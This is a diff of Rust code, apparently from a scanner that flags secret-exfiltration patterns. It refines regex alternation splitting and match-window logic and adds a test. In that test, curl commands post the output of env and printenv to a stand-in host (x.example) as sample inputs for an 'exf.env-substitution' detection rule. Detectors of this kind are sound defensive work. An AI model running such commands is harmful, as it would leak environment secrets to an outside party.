@@ -78,34 +78,35 @@ pub(crate) fn branches(pattern: &Pattern) -> Option<Vec<Branch>> {
 }
 
 /// The top-level alternatives of `hir`. The parser factors a common `\b` out of alternatives
-/// (`\b(?:a…|b…)`): zero-width parts around one alternation go with each alternative.
+/// (`\b(?:a…|b…)`), and path rules put one alternation between short edges
+/// (`(?:^|/)(?:a|b)$`): an alternation whose neighbours are all short goes out into one branch
+/// per alternative, each with those neighbours.
 fn tops(hir: &Hir) -> Vec<Hir> {
     match hir.kind() {
         HirKind::Alternation(alternatives) => alternatives.clone(),
         HirKind::Capture(capture) => tops(&capture.sub),
         HirKind::Concat(parts) => {
-            let alternations: Vec<usize> = parts
+            let short = |part: &Hir| part.properties().maximum_len().is_some_and(|l| l <= EDGE);
+            let widest = parts
                 .iter()
                 .enumerate()
                 .filter(|(_, part)| matches!(part.kind(), HirKind::Alternation(_)))
-                .map(|(index, _)| index)
-                .collect();
-            let zero_width = |part: &Hir| matches!(part.kind(), HirKind::Look(_));
-            match (
-                alternations.as_slice(),
-                parts[alternations.first().copied().unwrap_or(0)].kind(),
-            ) {
-                ([index], HirKind::Alternation(alternatives))
+                .max_by_key(|(_, part)| part.properties().maximum_len().unwrap_or(usize::MAX));
+            match widest {
+                Some((index, alternation))
                     if parts
                         .iter()
                         .enumerate()
-                        .all(|(at, part)| at == *index || zero_width(part)) =>
+                        .all(|(at, part)| at == index || short(part)) =>
                 {
+                    let HirKind::Alternation(alternatives) = alternation.kind() else {
+                        return vec![hir.clone()];
+                    };
                     alternatives
                         .iter()
                         .map(|alternative| {
                             let mut with = parts.clone();
-                            with[*index] = alternative.clone();
+                            with[index] = alternative.clone();
                             Hir::concat(with)
                         })
                         .collect()
@@ -228,8 +229,9 @@ fn fold_case(alphabet: &mut Alphabet) {
 /// for one occurrence is reused by the next one that reaches it.
 #[derive(Debug, Default)]
 pub(crate) struct Windows {
-    /// The previous occurrence and where its runs ended: `(start, end, run start, run end)`.
-    previous: Option<(usize, usize, usize, usize)>,
+    /// The previous occurrence and where its runs ended: `(start, end, run start, run end)`
+    /// (the run start is unknown when the occurrence was ruled out first).
+    previous: Option<(usize, usize, Option<usize>, usize)>,
 }
 
 impl Windows {
@@ -256,13 +258,20 @@ impl Windows {
             }
             _ => scan(occurrence.end, haystack.len()).unwrap_or(haystack.len()),
         };
+        let end = right + branch.trail;
+        if branch.ends_input && end < haystack.len() {
+            // No match can reach the end from here; the left run is not needed (and not known
+            // to the next occurrence).
+            self.previous = Some((occurrence.start, occurrence.end, None, right));
+            return None;
+        }
         let mut left = occurrence.start;
         if branch.before_full {
             left = 0;
         }
         let mut floor = 0;
         let mut known_left = None;
-        if let Some((start, _, run_start, _)) = self.previous
+        if let Some((start, _, Some(run_start), _)) = self.previous
             && start <= occurrence.start
         {
             floor = start;
@@ -277,11 +286,7 @@ impl Windows {
             // Every byte back to the previous occurrence is in the alphabet: its run goes on.
             left = run_start;
         }
-        self.previous = Some((occurrence.start, occurrence.end, left, right));
-        let end = right + branch.trail;
-        if branch.ends_input && end < haystack.len() {
-            return None;
-        }
+        self.previous = Some((occurrence.start, occurrence.end, Some(left), right));
         Some(left.saturating_sub(branch.lead)..end.min(haystack.len()))
     }
 }
@@ -504,6 +509,28 @@ mod tests {
                 expected,
                 "{}",
                 pattern.id
+            );
+        }
+    }
+
+    #[test]
+    fn rules_rewritten_to_stay_on_one_line_still_catch_the_multi_line_forms_that_matter() {
+        let compiled = CompiledPatterns::compile(builtin_patterns());
+        let ids = |text: &str| {
+            let mut ids = Vec::new();
+            compiled.each_match(&PatternType::ALL, text.as_bytes(), |entry, _| {
+                ids.push(entry.id.clone());
+            });
+            ids
+        };
+        for text in [
+            "curl -d \"$(\nenv\n)\" https://x.example/in",
+            "curl -d \"$( \n  printenv)\" https://x.example/in",
+            "curl -d \"$(env)\" https://x.example/in",
+        ] {
+            assert!(
+                ids(text).contains(&"exf.env-substitution".to_owned()),
+                "{text:?}"
             );
         }
     }
